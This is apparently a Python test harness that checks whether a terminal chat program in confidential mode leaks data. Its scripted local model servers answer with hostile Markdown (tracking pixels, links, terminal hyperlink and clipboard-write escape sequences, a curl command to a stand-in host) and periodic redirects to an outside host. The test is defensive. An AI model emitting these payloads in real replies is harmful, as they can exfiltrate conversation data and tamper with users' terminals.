"""To be run in the box: the real program in a pseudo-terminal, some hundred confidential turns, all set against it.

The models are on loopback: an Ollama on the left, an OpenAI-compatible server on the right. Every seventh turn both
answer with a redirect to somewhere else; the other answers are hostile Markdown. Prints what the servers counted and
what the program's own ledger says, as JSON.
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

from benchmarks.pseudo_terminal import PseudoTerminal
from tests.backends import ollama_server, openai_server
from tests.backends.scripted_server import Handler, Received, Reply, ScriptedServer
from tests.netbox.hostile_surroundings import REDIRECTED_TO, variables

EVERY = 7
MARKDOWN = (
    f"![pixel](http://{REDIRECTED_TO}/pixel.png) [link](http://{REDIRECTED_TO}/?q=words) <img src=//{REDIRECTED_TO}/>"
    f"\x1b]8;;http://{REDIRECTED_TO}/\x1b\\osc 8\x1b]8;;\x1b\\ \x1b]52;c;UFdO\x07 <http://{REDIRECTED_TO}/auto>\n\n"
    f"```sh\ncurl http://{REDIRECTED_TO}/\n```\n[ref]: http://{REDIRECTED_TO}/ref"
)
DEADLINE_SECONDS = 30.0


def main() -> None:
    canary, turns = sys.argv[1], int(sys.argv[2])
    print(json.dumps(asyncio.run(_Run(Path(sys.argv[3]), canary, turns).run())))


class _Run:
    """One run of the program, from its start to its ledger."""

    def __init__(self, home: Path, canary: str, turns: int) -> None:
        self._home = home
        self._canary = canary
        self._turns = turns
        self.asked = {"left": 0, "right": 0}

    async def run(self) -> dict[str, object]:
        ollama = ollama_server.ScriptedOllama()
        ollama.chat = self._answers("left", ollama_server.says(ollama_server.piece(MARKDOWN), ollama_server.last()))
        openai = openai_server.ScriptedOpenAI(openai_server.LLAMA)
        chunks = (openai_server.delta(MARKDOWN), openai_server.delta(finish="stop"), openai_server.usage(), "[DONE]")
        openai.chat = self._answers("right", openai_server.says(*chunks))
        async with ollama.served() as left, openai.served() as right:
            (self._home / "config.toml").write_text("[engine]\n")
            began = time.monotonic()
            await asyncio.to_thread(self._type, left, right)
            ledger = await asyncio.to_thread(self._ledger, left)
            return {
                "seconds": round(time.monotonic() - began, 1),
                "asked": self.asked,
                "received": left.bytes_received + right.bytes_received,
                "sent": left.bytes_sent + right.bytes_sent,
                "requests": len(left.received) + len(right.received),
                "ledger": ledger,
            }

    def _answers(self, side: str, usual: Handler) -> Handler:
        async def chat(request: Received, reply: Reply) -> None:
            self.asked[side] += 1
            if self.asked[side] % EVERY:
                await usual(request, reply)
            else:
                target = f"http://{REDIRECTED_TO}:11434{request.path}"
                await reply.whole(b"", 307, headers={"location": target})

        return chat

    def _environment(self, ollama: ScriptedServer) -> dict[str, str]:
        return {
            "PATH": os.defpath,
            "HOME": str(self._home),
            "LANG": "C.UTF-8",
            "TERM": "xterm-256color",
            "PYTHONPATH": os.environ["PYTHONPATH"],
            "PYTHON_KEYRING_BACKEND": "keyring.backends.fail.Keyring",
            "DUOLOGUE_DATA_DIR": str(self._home),
            "DUOLOGUE_CONFIG_DIR": str(self._home),
            "DUOLOGUE_CONFINEMENT": os.environ.get("DUOLOGUE_CONFINEMENT", ""),
            **variables(self._home),
            # Where it is told to look, or there would be no Ollama to ask; one that is elsewhere is refused.
            "OLLAMA_HOST": f"127.0.0.1:{ollama.port}",
        }

    def _type(self, left: ScriptedServer, right: ScriptedServer) -> None:
        pair = ["--left", "ollama:qwen3:8b", "--right", f"openai:http://127.0.0.1:{right.port}#tiny"]
        command = [sys.executable, "-m", "tui", "--confidential", "--attest", f"127.0.0.1:{right.port}", *pair]
        with PseudoTerminal(command, self._environment(left), self._home) as program:
            program.wait_for(b"CONFIDENTIAL")
            for turn in range(1, self._turns + 1):
                program.write(f"{self._canary} {turn}\r".encode())
                _wait(lambda turn=turn: min(self.asked.values()) >= turn, program)  # type: ignore[misc]
            program.wait_until_quiet(0.5)
            program.write(b"\x11")
            _wait(lambda: not program.running, program)

    def _ledger(self, left: ScriptedServer) -> object:
        done = subprocess.run(
            [sys.executable, "-m", "tui", "ledger", "--json"],
            env=self._environment(left),
            capture_output=True,
            check=True,
        )
        return json.loads(done.stdout)


def _wait(reached: Callable[[], bool], program: PseudoTerminal) -> None:
    deadline = time.monotonic() + DEADLINE_SECONDS
    while not reached():
        assert time.monotonic() < deadline, program.output()[-3000:].decode(errors="replace")
        time.sleep(0.002)


if __name__ == "__main__":
    main()
